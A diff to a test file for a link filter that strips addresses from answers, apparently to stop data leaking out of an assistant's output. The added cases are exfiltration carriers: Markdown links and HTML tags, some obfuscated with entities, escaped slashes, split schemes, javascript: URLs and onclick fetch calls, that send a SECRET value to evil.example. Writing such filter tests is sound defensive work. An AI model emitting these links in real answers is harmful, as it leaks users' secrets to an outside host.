@@ -52,7 +52,18 @@ const CARRIERS = [
   'wss://evil.example/SECRET',
   '[write](mailto:eve@evil.example?body=SECRET)',
   '[run](javascript:fetch(`//evil.example/SECRET`))',
+  // As Markdown decodes it.
+  '[a](https\\://evil.example/SECRET)',
+  '[a](https\\:\\/\\/evil.example/SECRET)',
+  '[a](h&#116;tps&#58;&#47;&#47;evil.example/SECRET)',
+  '[a](&#x68;&#x0074;&#116;&#112;&#115;&#x3A;&#x2f;&#47;evil.example/SECRET)',
+  '[a](&sol;&sol;evil.example/SECRET)',
+  '[a](\\/\\/evil.example/SECRET)',
+  '[a](/&#47;evil.example/SECRET)',
+  '[a](ht&Tab;tps&#10;://evil.example/SECRET)',
+  '[a](java&NewLine;script:location=`SECRET`)',
   // Behind or inside what a source holds.
+  '[m](<https://docs.example/valves/manual.html?v=2SECRET>)',
   '![m](https://docs.example/valves/manual.html?v=2&d=SECRET)',
   '[m](https://docs.example/valves/(SECRET))',
   'https://docs.example/valves/manual.html?v=2"SECRET',
@@ -86,6 +97,43 @@ describe('addresses in an answer', () => {
     '',
   ])('what is no address stays: %s', (answer) => {
     expect(filtered(answer, (rest) => rest.length)).toEqual([answer, 0]);
+  });
+
+  test('what goes on behind a space, in brackets, is no known address', () => {
+    expect(filtered('[m](<www.example.org/help SECRET words>)', (rest) => rest.length)).toEqual([
+      '[m](<[link removed] SECRET words>)',
+      1,
+    ]);
+    // With a sign of equality it could be a tag too: without its bracket it is neither that nor the target of a link.
+    for (const before of ['[m](', '[m][1]\n\n[1]: '])
+      expect(whole(`${before}<https://docs.example/valves/manual.html?v=2 SECRET words>`)).toBe(
+        `${before}‹https://docs.example/valves/manual.html?v=2 SECRET words>`,
+      );
+  });
+
+  test.each([
+    '<a href="https://docs.example/valves/manual.html?v=2 SECRET words">the manual</a>',
+    '<td style="background:url(\'https://docs.example/valves/manual.html?v=2 SECRET\')">',
+    '<td background="h&#116;tps&#58;&#47;&#47;evil.example/SECRET">',
+    '<a\nhref\n=\n"https:\nevil.example/SECRET">',
+    '<a/href=//evil.example/SECRET>',
+    '<b title=">" style="background:url(https:evil.example)">',
+    `<b ${' '.repeat(400)} onclick="fetch('https:evil.example')">`,
+    '<b.c style="x">',
+    'At the end <a href="x',
+  ])('a tag with an attribute that can hold an address is none: %s', (answer) => {
+    const [shown] = filtered(answer, (rest) => rest.length);
+    expect(shown).not.toMatch(/<[a-z]/u);
+    expect(filtered(answer, () => 1)[0]).toBe(shown);
+  });
+
+  test.each([
+    '<b>open</b> and <div class="valve" title=\'at 4 bar\' id=v1>shut</div><br/>',
+    'a<b and c>d, Map<String, Int>, x<y',
+    'It ends with <',
+  ])('other tags and comparisons stay: %s', (answer) => {
+    expect(filtered(answer, (rest) => rest.length)).toEqual([answer, 0]);
+    expect(filtered(answer, () => 1)).toEqual([answer, 0]);
   });
 
   test('a picture becomes a link, and a tag that fetches is no tag', () => {
@@ -132,5 +180,10 @@ describe('addresses in an answer', () => {
     // Letters right before a scheme may belong to it.
     expect(shown.startsWith('abcdefghij'.repeat(990))).toBe(true);
     expect(shown.endsWith('[link removed] end')).toBe(true);
+  });
+
+  test('a text of nothing but opening brackets is read in one go', () => {
+    const answer = '<a'.repeat(200_000);
+    expect(whole(answer).replaceAll('‹', '<')).toBe(answer);
   });
 });
